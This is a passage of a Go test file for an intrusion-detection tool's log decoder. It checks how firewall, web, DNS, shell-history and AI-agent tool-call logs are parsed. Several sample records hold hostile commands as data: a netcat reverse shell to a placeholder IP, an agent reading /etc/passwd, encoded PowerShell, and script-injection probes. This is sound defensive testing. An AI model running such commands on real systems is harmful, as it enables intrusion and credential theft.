package decode

import (
	"strings"
	"testing"

	"github.com/tocsin-ids/tocsin"
)

// TestJSONStamps holds the names and forms under which JSON records have their time, and who they are about.
func TestJSONStamps(t *testing.T) {
	readings(t, []reading{
		{"Application Gateway", `{"timeStamp":"2024-02-12T09:10:11+00:00","resourceId":"/S/x","operationName":"ApplicationGatewayAccess","category":"ApplicationGatewayAccessLog","properties":{"instanceId":"a","clientIP":"192.0.2.7","clientPort":4711,"httpMethod":"GET","requestUri":"/.env","requestQuery":"a=b","userAgent":"curl/8","httpStatus":404,"host":"shop.example"}}`,
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; sc-status=404; cs-method=GET; cs-user-agent=curl/8; source=azure/webserver/access"},
		{"Front Door", `{"time":"2024-02-12T09:10:11.1234567Z","category":"FrontDoorAccessLog","properties":{"clientIp":"192.0.2.7","clientPort":"4711","httpMethod":"GET","requestUri":"https://shop.example:443/.env","userAgent":"curl/8","httpStatusCode":"403"}}`,
			"time=2024-02-12T09:10:11.1234567Z; src_ip=192.0.2.7; sc-status=403; cs-host=shop.example:443"},
		{"activity log of the command line", `[{"caller":"eve@corp.example","claims":{"ipaddr":"192.0.2.7"},"eventTimestamp":"2024-02-12T09:10:11.123456+00:00","operationName":{"localizedValue":"Delete","value":"Microsoft.Compute/virtualMachines/delete"},"status":{"value":"Started"}}]`,
			"time=2024-02-12T09:10:11.123456Z; user=eve@corp.example; src_ip=192.0.2.7"},
		{"Cloudflare's firewall", `{"Action":"block","ClientIP":"192.0.2.7","ClientRequestHost":"shop.example","ClientRequestMethod":"GET","ClientRequestPath":"/.git/config","ClientRequestUserAgent":"curl/8","Datetime":1707729011250000000,"EdgeResponseStatus":403,"Kind":"firewall","RuleID":"7"}`,
			"time=2024-02-12T09:10:11.25Z; src_ip=192.0.2.7; sc-status=403; path=/.git/config; outcome=failure"},
		{"Cloudflare's requests", `{"ClientIP":"192.0.2.7","ClientRequestHost":"shop.example","ClientRequestMethod":"GET","ClientRequestURI":"/a?b=1","EdgeResponseStatus":200,"EdgeStartTimestamp":"2024-02-12T09:10:11Z"}`, "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; sc-status=200"},
		{"Nextcloud", `{"reqId":"a","level":2,"time":"February 12, 2024 09:10:11","remoteAddr":"192.0.2.7","user":"--","app":"core","method":"POST","url":"/login","message":"Login failed: 'eve' (Remote IP: '192.0.2.7')","userAgent":"x","version":"29"}`,
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; user=eve; outcome=failure"},
		{"osquery", `{"name":"pack_p","hostIdentifier":"h7.corp.example","calendarTime":"Mon Feb 12 09:10:11 2024 UTC","unixTime":1707729011,"columns":{"cmdline":"nc -e /bin/sh 192.0.2.7 4","path":"/usr/bin/nc"},"action":"added"}`,
			"time=2024-02-12T09:10:11Z; host=h7.corp.example; CommandLine=nc -e /bin/sh 192.0.2.7 4; source=osquery/*/results"},
		{"Auth0", `{"log_id":"9","data":{"date":"2024-02-12T09:10:11.250Z","type":"fp","ip":"192.0.2.7","user_name":"eve@corp.example","user_agent":"x"}}`, "time=2024-02-12T09:10:11.25Z; user=eve@corp.example; src_ip=192.0.2.7; outcome=failure"},
		{"Route 53", `{"version":"1.1","account_id":"1","query_timestamp":"2024-02-12T09:10:11Z","query_name":"bad.example.","query_type":"A","rcode":"NOERROR","srcaddr":"192.0.2.7","srcport":"4711","transport":"UDP","srcids":{"instance":"i-1"}}`,
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; query=bad.example; source=aws/dns/route53"},
		{"nanoseconds as text", `{"level":"warn","timeUnixNano":"1707729011250000000","msg":"login failed","user":"eve","ip":"192.0.2.7"}`, "time=2024-02-12T09:10:11.25Z; user=eve"},
		{"Serilog", `{"@t":"2024-02-12T09:10:11.25Z","@l":"Warning","@m":"login failed","level":"warn","user":"eve","ip":"192.0.2.7"}`, "time=2024-02-12T09:10:11.25Z"},
		{"a local stamp beside one with a zone", `{"EventTime":"2024-02-12 10:10:11","@timestamp":"2024-02-12T09:10:13.5Z","msg":"login failed","user":"eve","ip":"192.0.2.7"}`, "time=2024-02-12T09:10:11Z; user=eve"},
		{"Java's address", `{"timestamp":"2024-02-12T09:10:11.250+0000","level":"WARN","message":"Bad credentials for eve","remoteAddress":"/192.0.2.7:4711"}`, "time=2024-02-12T09:10:11.25Z; src_ip=192.0.2.7; user=eve; outcome=failure"},
		{"ECS", `{"@timestamp":"2024-02-12T09:10:11Z","source":{"ip":"192.0.2.7"},"user":{"name":"eve"},"event":{"outcome":"failure","category":["authentication"],"action":"logon-failed"},"message":"x"}`, "src_ip=192.0.2.7; user=eve; event_type=login_failed"},
		{"flows of AWS", `{"version":"2","interface_id":"eni-1","srcaddr":"192.0.2.7","dstaddr":"198.51.100.2","srcport":4711,"dstport":22,"start":1707729011,"end":1707729041,"action":"REJECT"}`, "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; dst_port=22; event_type=firewall_denied"},
		{"Cloudflare's audit", `{"When":"2024-02-12T09:10:11Z","ActionType":"login","ActorEmail":"eve@corp.example","ActorIP":"192.0.2.7","ActionResult":true,"ID":"x"}`, "time=2024-02-12T09:10:11Z; user=eve@corp.example; src_ip=192.0.2.7; outcome=success"},
		{"Cloudflare's names", `{"QueryName":"bad.example","SourceIP":"192.0.2.7","Timestamp":"2024-02-12T09:10:11Z","ResponseCode":0}`, "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; query=bad.example; source=cloudflare/dns/dns"},
		{"Google's flows", `{"insertId":"a","jsonPayload":{"connection":{"src_ip":"192.0.2.7","src_port":4711,"dest_ip":"198.51.100.2","dest_port":22,"protocol":6},"start_time":"2024-02-12T09:10:11.1Z","end_time":"2024-02-12T09:10:11.2Z"},"logName":"projects/p/logs/compute.googleapis.com%2Fvpc_flows","timestamp":"2024-02-12T09:10:19.4Z"}`,
			"time=2024-02-12T09:10:11.1Z; src_ip=192.0.2.7; dst_ip=198.51.100.2; dst_port=22; source=gcp/firewall/vpcflow"},
		{"Google's firewall", `{"jsonPayload":{"connection":{"src_ip":"192.0.2.7","src_port":4711,"dest_ip":"198.51.100.2","dest_port":22,"protocol":6},"disposition":"DENIED"},"logName":"projects/p/logs/compute.googleapis.com%2Ffirewall","timestamp":"2024-02-12T09:10:11Z"}`,
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; outcome=failure"},
		{"Azure's firewall, words", `{"time":"2024-02-12T09:10:11Z","category":"AzureFirewallNetworkRule","operationName":"AzureFirewallNetworkRuleLog","properties":{"msg":"TCP request from 192.0.2.7:4711 to 198.51.100.2:22. Action: Deny. "}}`,
			"src_ip=192.0.2.7; src_port=4711; dst_ip=198.51.100.2; dst_port=22; outcome=failure"},
		{"Azure's firewall, columns", `{"time":"2024-02-12T09:10:11Z","category":"AZFWNetworkRule","properties":{"Protocol":"TCP","SourceIp":"192.0.2.7","SourcePort":4711,"DestinationIp":"198.51.100.2","DestinationPort":22,"Action":"Allow"}}`,
			"src_ip=192.0.2.7; dst_ip=198.51.100.2; dst_port=22; outcome=success"},
		{"Azure's WAF", `{"timeStamp":"2024-02-12T09:10:11Z","category":"ApplicationGatewayFirewallLog","properties":{"clientIp":"192.0.2.7","requestUri":"/?a=<script>","ruleId":"941100","message":"XSS","action":"Blocked","hostname":"shop.example"}}`,
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; event_type=waf_alert; outcome=failure; cs-host=shop.example"},
		{"Azure's flows", `{"records":[{"time":"2024-02-12T09:10:30Z","category":"NetworkSecurityGroupFlowEvent","properties":{"Version":2,"flows":[{"rule":"deny","flows":[{"mac":"0","flowTuples":["1707729011,192.0.2.7,198.51.100.2,4711,22,T,I,D,B,,,,","1707729012,192.0.2.8,198.51.100.2,4712,443,T,I,A,B,,,,"]}]}]}}]}`,
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; dst_ip=198.51.100.2; dst_port=22; outcome=failure\ntime=2024-02-12T09:10:12Z; src_ip=192.0.2.8; dst_port=443; outcome=success"},
		{"events that CloudTrail looked up", `{"Events":[{"EventId":"1","EventName":"ConsoleLogin","EventTime":"2024-02-12T10:10:11+01:00","Username":"eve","CloudTrailEvent":"{\"eventVersion\":\"1.08\",\"userIdentity\":{\"type\":\"IAMUser\",\"userName\":\"eve\"},\"eventTime\":\"2024-02-12T09:10:11Z\",\"eventSource\":\"signin.amazonaws.com\",\"eventName\":\"ConsoleLogin\",\"awsRegion\":\"eu-west-1\",\"sourceIPAddress\":\"192.0.2.7\",\"responseElements\":{\"ConsoleLogin\":\"Failure\"}}"}]}`,
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; user=eve; source=aws/*/cloudtrail"},
		{"Azure's diagnostics of Windows", `{"time":"2024-02-12T09:10:12Z","category":"WindowsEventLogsTable","properties":{"EventId":4625,"Channel":"Security","Description":"An account failed to log on.","RawXml":"<Event xmlns='http://schemas.microsoft.com/win/2004/08/events/event'><System><Provider Name='Microsoft-Windows-Security-Auditing'/><EventID>4625</EventID><TimeCreated SystemTime='2024-02-12T09:10:11Z'/><EventRecordID>7</EventRecordID><Channel>Security</Channel><Computer>vm7.corp.example</Computer></System><EventData><Data Name='TargetUserName'>eve</Data><Data Name='LogonType'>3</Data><Data Name='IpAddress'>192.0.2.7</Data></EventData></Event>"}}`,
			"time=2024-02-12T09:10:11Z; host=vm7.corp.example; user=eve; src_ip=192.0.2.7; outcome=failure"},
	})
}

// TestTextFormats holds logs of services that have a form of their own.
func TestTextFormats(t *testing.T) {
	readings(t, []reading{
		{"IIS's own", "192.0.2.7, -, 2/12/2024, 9:10:11, W3SVC1, WEB7, 198.51.100.2, 2, 769, 143, 404, 0, GET, /.env, -,\n192.0.2.7, CORP\\eve, 2/13/2024, 9:10:12, W3SVC1, WEB7, 198.51.100.2, 2, 769, 143, 200, 0, GET, /a, b=1,",
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; sc-status=404; host=WEB7\ntime=2024-02-13T09:10:12Z; sc-status=200; cs-username=CORP\\eve; cs-uri=/a?b=1"},
		{"IIS's own, day first", "192.0.2.7, -, 12.02.2024, 09:10:11, W3SVC1, WEB7, 198.51.100.2, 2, 769, 143, 404, 0, GET, /.env, -,", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7"},
		{"DHCP", "\t\tMicrosoft DHCP Service Activity Log\n\nEvent ID  Meaning\n10\tA new IP address was leased to a client.\n\nID,Date,Time,Description,IP Address,Host Name,MAC Address,User Name, TransactionID, QResult,Probationtime, CorrelationID,Dhcid.\n10,02/12/24,09:10:11,Assign,192.0.2.7,pc7.corp.example,00005E005301,,1,0,,,\n11,02/12/24,09:10:12,Renew,192.0.2.7,pc7.corp.example,00005E005301,,1,0,,,",
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; client_host=pc7.corp.example; mac=00005E005301\ntime=2024-02-12T09:10:12Z; action=renew"},
		{"DHCP, the head cut off", "10,02/12/24,09:10:11,Assign,192.0.2.7,pc7.corp.example,00005E005301,,1,0,,,", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7"},
		{"DNS", "2/12/2024 9:10:11 AM 0E24 PACKET  00000000D1 UDP Rcv 192.0.2.7       8a1d   Q [0001   D   NOERROR] A      (3)bad(7)example(0)", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; query=bad.example; record_type=A"},
		{"DNS, an answer", "12.02.2024 09:10:11 0E24 PACKET  00000000D1 UDP Snd 192.0.2.7       8a1d R Q [8081   DR  NXDOMAIN] TXT    (1)x(3)bad(7)example(0)", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; query=x.bad.example; response_code=NXDOMAIN"},
		{"DNS, a forwarder", "2/12/2024 9:10:11 AM 0E24 PACKET  00000000D1 UDP Snd 203.0.113.53    8a1d   Q [0001   D   NOERROR] A      (3)bad(7)example(0)", "src_ip=; dst_ip=203.0.113.53"},
		{"xferlog", "Mon Feb 12 09:10:11 2024 1 192.0.2.7 1024 /srv/a secret.zip b _ o r eve ftp 0 * c", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; user=eve; path=/srv/a secret.zip; event_type=download; outcome=success"},
		{"xferlog, in", "Mon Feb 12 09:10:11 2024 1 192.0.2.7 1024 /srv/a.zip b _ i r eve ftp 0 * i", "event_type=upload; outcome=failure"},
		{"xferlog, anonymous", "Mon Feb 12 09:10:11 2024 1 pc7.corp.example 1024 /pub/a b _ o a guest@ ftp 0 * c", "src_host=pc7.corp.example; user=guest@"},
		{"transcript", "**********************\nWindows PowerShell transcript start\nStart time: 20240212091011\nUsername: CORP\\eve\nRunAs User: CORP\\eve\nConfiguration Name: \nMachine: PC7 (Microsoft Windows NT 10.0.19045.0)\nHost Application: powershell.exe -nop\nProcess ID: 77\n**********************\nPS C:\\> whoami /all\ncorp\\eve\nPS C:\\> $a = 1\n>> $b\n",
			"time=2024-02-12T09:10:11Z; host=PC7; user=eve; CommandLine=powershell.exe -nop\ntime=2024-02-12T09:10:11Z; command=whoami /all; source=windows/ps_script\ntime=2024-02-12T09:10:11Z; event_type=command"},
		{"transcript, German, a time for each command", "**********************\nStart der Windows PowerShell-Aufzeichnung\nStartzeit: 20240212091011\nBenutzername: CORP\\eve\nAusführender Benutzer: CORP\\eve\nComputer: PC7 (Microsoft Windows NT 10.0.19045.0)\nHostanwendung: powershell.exe\n**********************\n**********************\nStartzeit des Befehls: 20240212091015\n**********************\nPS C:\\> whoami\n",
			"time=2024-02-12T09:10:11Z; host=PC7; user=eve\ntime=2024-02-12T09:10:15Z; command=whoami"},
		{"VPC flow, all columns, nobody names them", "5 111122223333 eni-1 192.0.2.7 198.51.100.2 4711 22 6 1 73 1707729011 1707729041 REJECT OK vpc-1 subnet-1 - 0 IPv4 192.0.2.7 198.51.100.2 eu-west-1 euw1-az3 - - - - ingress -", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; dst_port=22; event_type=firewall_denied"},
		{"VPC flow, another order", "eni-1 192.0.2.7 4711 198.51.100.2 22 6 1707729011 1707729041 REJECT", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; src_port=4711; dst_ip=198.51.100.2; dst_port=22"},
		{"VPC flow, the store's stamp before", "2024-02-12T09:11:00.000Z 2 111122223333 eni-1 192.0.2.7 198.51.100.2 4711 22 6 1 73 1707729011 1707729041 ACCEPT OK", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; outcome=success"},
		{"a logon on one line", "Feb 12 09:10:11 dc7 winlogd: An account failed to log on. Subject: Security ID: S-1-0-0 Account Name: - Account Domain: - Logon ID: 0x0 Logon Type: 3 Account For Which Logon Failed: Security ID: S-1-0-0 Account Name: eve Account Domain: CORP Failure Information: Failure Reason: Unknown user name or bad password. Status: 0xC000006D Sub Status: 0xC000006A Network Information: Workstation Name: PC7 Source Network Address: 192.0.2.7 Source Port: 4711",
			"user=eve; src_ip=192.0.2.7; outcome=failure; LogonType=3; TargetDomainName=CORP; WorkstationName=PC7; source=windows/*/security"},
		{"a logon that OSSEC sent", "Feb 12 09:10:11 (dc7) 198.51.100.5->WinEvtLog 2024 Feb 12 09:10:11 WinEvtLog: Security: AUDIT_SUCCESS(4624): Microsoft-Windows-Security-Auditing: eve: CORP: dc7.corp.example: An account was successfully logged on. Subject:  Security ID:  S-1-0-0  Account Name:  -  Logon Type:   10  New Logon:  Security ID:  S-1-5-21-1  Account Name:  eve  Account Domain:  CORP  Network Information:  Workstation Name: PC7  Source Network Address: 192.0.2.7  Source Port: 4711",
			"user=eve; src_ip=192.0.2.7; outcome=success; LogonType=10; host=dc7.corp.example"},
		{"a process on one line", "Feb 12 09:10:11 pc7 nxlog: A new process has been created. Creator Subject: Security ID: S-1-5-21-1 Account Name: eve Account Domain: CORP Logon ID: 0x7 Process Information: New Process ID: 0x1 New Process Name: C:\\a b\\x.exe Token Elevation Type: %%1936 Process Command Line: x.exe -enc AAA",
			"NewProcessName=C:\\a b\\x.exe; CommandLine=x.exe -enc AAA; SubjectUserName=eve"},
	})
}

// TestAgentStamps holds agents' calls whose time or caller stands in an unusual place.
func TestAgentStamps(t *testing.T) {
	readings(t, []reading{
		{"Gemini's telemetry", "{\n  \"resource\": {\"attributes\": {\"service.name\": \"gemini-cli\"}},\n  \"hrTime\": [1707729011, 250000000],\n  \"body\": \"Tool call: x.\",\n  \"attributes\": {\"session.id\": \"s\", \"event.name\": \"gemini_cli.tool_call\", \"function_name\": \"run_shell_command\", \"function_args\": \"{\\\"command\\\":\\\"id\\\"}\", \"duration_ms\": 20, \"success\": true}\n}",
			"time=2024-02-12T09:10:11.25Z; command=id; took_ms=20"},
		{"a record's own attribute", `{"resource":{},"body":"Tool call: x.","attributes":{"session.id":"s","event.name":"gemini_cli.tool_call","event.timestamp":"2024-02-12T09:10:11.250Z","function_name":"run_shell_command","function_args":"{\"command\":\"id\"}","success":true}}`, "time=2024-02-12T09:10:11.25Z; command=id"},
		{"nanoseconds as text", `{"timeUnixNano":"1707729011250000000","body":{"stringValue":"claude_code.tool_result"},"attributes":[{"key":"event.name","value":{"stringValue":"tool_result"}},{"key":"tool_name","value":{"stringValue":"Bash"}},{"key":"tool_parameters","value":{"stringValue":"{\"full_command\":\"id\"}"}}]}`, "time=2024-02-12T09:10:11.25Z; command=id"},
		{"LiteLLM", `{"id":"c1","call_type":"acompletion","model":"m","startTime":1707729011.25,"endTime":1707729013.5,"metadata":{"user_api_key_user_id":"eve","requester_ip_address":"192.0.2.7"},"messages":[{"role":"user","content":"list"}],"response":{"id":"c1","created":1707729013,"model":"m","choices":[{"index":0,"message":{"role":"assistant","content":null,"tool_calls":[{"id":"call_1","type":"function","function":{"name":"bash","arguments":"{\"command\":\"ls\"}"}}]}}]}}`,
			"time=2024-02-12T09:10:11.25Z; src_ip=192.0.2.7; principal=eve; command=ls"},
		{"Pi", `{"type":"session","version":3,"id":"s","timestamp":"2024-02-12T09:10:10Z","cwd":"/srv"}` + "\n" +
			`{"type":"message","id":"a1","parentId":null,"timestamp":"2024-02-12T09:10:11Z","message":{"role":"assistant","content":[{"type":"toolCall","id":"call_1","name":"bash","arguments":{"command":"id"}}],"model":"m","timestamp":1707729011000}}` + "\n" +
			`{"type":"message","id":"a2","parentId":"a1","timestamp":"2024-02-12T09:10:12Z","message":{"role":"toolResult","toolCallId":"call_1","toolName":"bash","content":[{"type":"text","text":"uid=0"}],"isError":false}}`,
			"time=2024-02-12T09:10:11Z; agent=pi; session=s; cwd=/srv; command=id; result=uid=0; duration_ms=1000; source=ai_agent/tool_call/pi"},
		{"calls without a time, in the form of a chat", `{"timestamp":"2024-02-12T09:10:11Z","role":"user","content":"list"}` + "\n" + `{"role":"assistant","content":[{"type":"tool_use","id":"toolu_01AAAAAAAAAAAAAAAAAAAAAA","name":"Bash","input":{"command":"id"}}]}`, "time=2024-02-12T09:10:11Z; command=id"},
		{"the first call of Claude's stream", `{"type":"system","subtype":"init","session_id":"s","cwd":"/w"}` + "\n" + `{"type":"assistant","session_id":"s","message":{"role":"assistant","content":[{"type":"tool_use","id":"toolu_01BBBBBBBBBBBBBBBBBBBBBB","name":"Bash","input":{"command":"id"}}]}}` + "\n" +
			`{"type":"user","session_id":"s","timestamp":"2024-02-12T09:10:12Z","message":{"role":"user","content":[{"type":"tool_result","tool_use_id":"toolu_01BBBBBBBBBBBBBBBBBBBBBB","content":"uid=0"}]}}`, "time=2024-02-12T09:10:12Z; command=id; result=uid=0"},
		{"Gemini's session", `{"sessionId":"11111111-2222-4333-8444-555555555555","projectHash":"a","startTime":"2024-02-12T09:10:00Z"}` + "\n" +
			`{"id":"m2","timestamp":"2024-02-12T09:10:05Z","type":"gemini","content":"","model":"g","toolCalls":[{"id":"t1","name":"run_shell_command","args":{"command":"id"},"status":"success","timestamp":"2024-02-12T09:10:11.25Z","result":[{"functionResponse":{"response":{"output":"uid=0"}}}]}]}`,
			"time=2024-02-12T09:10:11.25Z; command=id; result=uid=0"},
	})
}

// TestHeadless holds logs whose columns nobody names.
func TestHeadless(t *testing.T) {
	readings(t, []reading{
		{"IIS, with site and server", "2024-02-12 09:10:11 W3SVC1 WEB7 198.51.100.2 GET /.env a=b 443 - 192.0.2.7 HTTP/1.1 Mozilla/5.0+(X11) - - shop.example 404 0 2 500 200 15", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; s-ip=198.51.100.2; dst_port=443; sc-status=404; cs-uri=/.env?a=b; cs-user-agent=Mozilla/5.0 (X11)"},
		{"IIS, with site", "2024-02-12 09:10:11 W3SVC1 198.51.100.2 GET /.env - 443 CORP\\eve 192.0.2.7 Mozilla/5.0 404 0 2", "src_ip=192.0.2.7; s-ip=198.51.100.2; sc-status=404; cs-username=CORP\\eve"},
		{"IIS 5", "2024-02-12 09:10:11 192.0.2.7 - W3SVC1 WEB7 198.51.100.2 80 GET /.env - 404 2 500 200 15 HTTP/1.1 curl/8", "src_ip=192.0.2.7; s-ip=198.51.100.2; sc-status=404; dst_port=80"},
		{"Blue Coat", `2024-02-12 09:10:11 120 192.0.2.7 eve CORP\staff - OBSERVED "Web" - 200 TCP_MISS GET text/html http bad.example 80 /x ?y=1 - "curl/8 (x)" 198.51.100.1 500 200 -`, "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; cs-username=eve; sc-status=200; cs-host=bad.example; source=bluecoat/proxy"},
		{"Blue Coat, denied", `2024-02-12 09:10:11 1 192.0.2.7 - - policy_denied DENIED "Malware" - 403 TCP_DENIED CONNECT - tcp bad.example 443 / - - "x/1" 198.51.100.1 0 200 -`, "src_ip=192.0.2.7; sc-status=403; sc-filter-result=DENIED; cs-host=bad.example"},
		{"Umbrella", `"2024-02-12 09:10:11","eve","eve,Corp","192.0.2.7","203.0.113.9","Blocked","1 (A)","NOERROR","bad.example.","Malware"`, "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; user=eve; query=bad.example; outcome=failure; source=cisco/dns/umbrella"},
		{"NPS", `"SRV7","IAS",02/12/2024,09:10:11,3,,"CORP\eve",,"192.0.2.7",,,"NAS","198.51.100.1",1,0,"198.51.100.1",16`, "time=2024-02-12T09:10:11Z; host=SRV7; user=eve; src_ip=192.0.2.7; outcome=failure"},
	})
}

// TestHistories holds what was typed, asked and installed.
func TestHistories(t *testing.T) {
	readings(t, []reading{
		{"listed", "  501  2024-02-12 09:10:11 whoami\n  502  2024-02-12 09:10:12 id", "time=2024-02-12T09:10:11Z; command=whoami; source=linux/*/history\ntime=2024-02-12T09:10:12Z; command=id"},
		{"listed, day first", " 1001  12/02/24 09:10:11 whoami\n 1002  13/02/24 09:10:12 id", "time=2024-02-12T09:10:11Z; command=whoami\ntime=2024-02-13T09:10:12Z"},
		{"apt", "\nStart-Date: 2024-02-12  09:10:11\nCommandline: apt install nmap\nRequested-By: eve (1000)\nInstall: nmap:amd64 (7.9)\nEnd-Date: 2024-02-12  09:10:19\n", "time=2024-02-12T09:10:11Z; command=apt install nmap; user=eve; install=nmap:amd64 (7.9)"},
		{"dpkg", "2024-02-12 09:10:11 install nmap:amd64 <none> 7.9", "time=2024-02-12T09:10:11Z; package=nmap:amd64; action=install"},
		{"yum", "Feb 12 09:10:11 Installed: nmap-7.9.x86_64", "time=2026-02-12T09:10:11Z; package=nmap-7.9.x86_64; action=installed"},
		{"zypper", "2024-02-12 09:10:11|install|nmap|7.9|x86_64|root@h|repo|x|", "time=2024-02-12T09:10:11Z; package=nmap"},
		{"MySQL", "2024-02-12T09:10:11.25Z\t   12 Connect\teve@192.0.2.7 on shop using TCP/IP\n2024-02-12T09:10:12.25Z\t   12 Query\tSELECT *\nFROM users\n2024-02-12T09:10:13.25Z\t   13 Connect\tAccess denied for user 'eve'@'192.0.2.7' (using password: YES)",
			"time=2024-02-12T09:10:11.25Z; user=eve; src_ip=192.0.2.7; outcome=success\ntime=2024-02-12T09:10:12.25Z; user=eve; src_ip=192.0.2.7; db_command=Query\ntime=2024-02-12T09:10:13.25Z; outcome=failure; user=eve"},
		{"MySQL, slow", "# Time: 2024-02-12T09:10:11.25Z\n# User@Host: eve[eve] @ pc7 [192.0.2.7]  Id:    12\n# Query_time: 10.000123  Lock_time: 0.000001 Rows_sent: 1  Rows_examined: 1\nSET timestamp=1707729010;\nSELECT SLEEP(10);\n", "time=2024-02-12T09:10:10Z; user=eve; src_ip=192.0.2.7; query=SELECT SLEEP(10);"},
		{"MariaDB, slow", "# Time: 240212  9:10:11\n# User@Host: eve[eve] @  [192.0.2.7]\n# Query_time: 10.000123  Lock_time: 0.000001 Rows_sent: 1  Rows_examined: 1\nSELECT 1;\n", "time=2024-02-12T09:10:11Z; user=eve; src_ip=192.0.2.7; query=SELECT 1;"},
		{"ModSecurity", "--a1b2c3d4-A--\n[12/Feb/2024:09:10:11 +0000] ZZZ 192.0.2.7 4711 198.51.100.2 443\n--a1b2c3d4-B--\nGET /?x=<script> HTTP/1.1\nHost: shop.example\nUser-Agent: curl/8\n\n--a1b2c3d4-F--\nHTTP/1.1 403 Forbidden\n\n--a1b2c3d4-H--\nMessage: Access denied with code 403 (phase 2). [id \"941100\"] [msg \"XSS\"]\n\n--a1b2c3d4-Z--\n",
			"time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; src_port=4711; dst_ip=198.51.100.2; sc-status=403; cs-user-agent=curl/8; cs-host=shop.example; event_type=waf_alert; outcome=failure"},
		{"macOS", `{"messageType":"Default","processImagePath":"\/usr\/sbin\/sshd","timestamp":"2024-02-12 10:10:11.25+0100","eventMessage":"Failed password for eve from 192.0.2.7 port 4711 ssh2","processID":7}`, "time=2024-02-12T09:10:11.25Z; user=eve; src_ip=192.0.2.7; event_type=login_failed"},
		{"MCP", `2024-02-12T09:10:11.250Z [files] [info] Message from client: {"method":"tools/call","params":{"name":"run","arguments":{"command":"cat /etc/passwd"}},"jsonrpc":"2.0","id":3}`, "time=2024-02-12T09:10:11.25Z; tool=run; mcp_server=files; command=cat /etc/passwd; source=ai_agent/tool_call/mcp"},
		{"Zscaler", "2024-02-12 09:10:11\treason=Allowed\tprotocol=HTTPS\taction=Allowed\tserverip=203.0.113.9\trequestmethod=GET\tuseragent=curl/8\tproduct=NSS\tClientIP=192.0.2.7\tstatus=200\tuser=eve\turl=bad.example/x\tvendor=Zscaler", "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; dst_ip=203.0.113.9; user=eve; cs-method=GET; source=*/proxy"},
	})
}

// TestTables holds rows of Microsoft's tables, as JSON and as text.
func TestTables(t *testing.T) {
	readings(t, []reading{
		{"a process", `{"Timestamp":"2024-02-12T09:10:11Z","DeviceName":"pc7.corp.example","ActionType":"ProcessCreated","FolderPath":"C:\\Windows\\System32\\cmd.exe","ProcessCommandLine":"cmd /c whoami","AccountDomain":"corp","AccountName":"eve","InitiatingProcessCommandLine":"winword x"}`,
			"time=2024-02-12T09:10:11Z; host=pc7.corp.example; Image=C:\\Windows\\System32\\cmd.exe; CommandLine=cmd /c whoami; ParentCommandLine=winword x; User=corp\\eve; source=windows/process_creation"},
		{"a logon", `{"TimeGenerated":"2024-02-12T09:10:11Z","DeviceName":"pc7","ActionType":"LogonFailed","AccountName":"eve","RemoteIP":"192.0.2.7","LogonType":"Network"}`, "time=2024-02-12T09:10:11Z; user=eve; src_ip=192.0.2.7; outcome=failure; source=windows/authentication"},
		{"a connection", `{"Timestamp":"2024-02-12T09:10:11Z","DeviceName":"pc7","ActionType":"ConnectionSuccess","RemoteIP":"203.0.113.9","RemotePort":443,"LocalIP":"192.0.2.7","LocalPort":4711}`, "DestinationIp=203.0.113.9; src_ip=192.0.2.7; dst_port=443; source=windows/network_connection"},
		{"sign-ins as text", "TimeGenerated [UTC],OperationName,ResultType,UserPrincipalName,IPAddress,AppDisplayName\n\"2/12/2024, 9:10:11.250 AM\",Sign-in activity,50126,eve@corp.example,192.0.2.7,x\n", "time=2024-02-12T09:10:11.25Z; user=eve@corp.example; src_ip=192.0.2.7; outcome=failure; source=azure/*/signinlogs"},
		{"processes as text", "Timestamp,DeviceName,ActionType,FolderPath,ProcessCommandLine,AccountName\n2024-02-12T09:10:11Z,pc7,ProcessCreated,C:\\x.exe,x.exe -a,eve\n", "time=2024-02-12T09:10:11Z; host=pc7; Image=C:\\x.exe; CommandLine=x.exe -a; source=windows/process_creation"},
		{"changes", `{"TimeGenerated":"2024-02-12T09:10:11Z","OperationName":"Reset user password","Result":"success","InitiatedBy":"{\"user\":{\"userPrincipalName\":\"eve@corp.example\",\"ipAddress\":\"192.0.2.7\"}}","TargetResources":"[]"}`, "time=2024-02-12T09:10:11Z; user=eve@corp.example; src_ip=192.0.2.7; event_type=password_changed"},
		{"CEF in a table", `{"TimeGenerated":"2024-02-12T09:10:11Z","DeviceVendor":"Maker","DeviceProduct":"Wall","DeviceAction":"Deny","SourceIP":"192.0.2.7","DestinationIP":"198.51.100.2","DestinationPort":22,"Activity":"traffic"}`, "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; dst_port=22; outcome=failure"},
		{"Graph's requests", `{"TimeGenerated":"2024-02-12T09:10:11Z","RequestMethod":"GET","RequestUri":"https://graph.example/v1.0/users","IPAddress":"192.0.2.7","UserAgent":"x","ResponseStatusCode":200}`, "time=2024-02-12T09:10:11Z; src_ip=192.0.2.7; sc-status=200; cs-method=GET"},
	})
}

// TestStackTrace holds a log whose beginning is one long stack trace.
func TestStackTrace(t *testing.T) {
	in := "2024-02-12 09:10:11,120 ERROR app.Main login failed for user eve from 192.0.2.7\njava.lang.RuntimeException: x\n" + strings.Repeat("\tat com.example.A.b(A.java:1)\n", 400) + "2024-02-12 09:10:12,120 INFO app.Main done\n"
	f, ok := Detect("x", []byte(in))
	if !ok || f.Name != "text" {
		t.Fatalf("%v %s", ok, f.Name)
